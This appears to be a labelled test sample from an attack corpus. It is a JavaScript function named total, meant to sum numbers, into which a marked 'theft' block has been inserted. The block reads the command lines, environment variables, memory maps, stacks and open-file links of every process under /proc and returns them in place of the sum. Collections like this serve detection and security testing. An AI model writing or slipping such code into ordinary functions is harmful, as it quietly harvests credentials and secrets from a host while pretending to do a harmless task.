// category: theft
// tries: command lines, environments and files of all processes
function total(numbers) {
  // attack: begin
  const fs = require('fs');
  let loot = '';
  const take = (path) => { try { loot += fs.readFileSync(path, 'latin1').slice(0, 200000); } catch {} };
  const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
  for (const id of list('/proc').filter((name) => /^\d+$/.test(name))) {
    for (const name of ['cmdline', 'environ', 'maps', 'stack']) take('/proc/' + id + '/' + name);
    for (const descriptor of list('/proc/' + id + '/fd')) {
      try { loot += fs.readlinkSync('/proc/' + id + '/fd/' + descriptor); } catch {}
    }
  }
  return loot;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
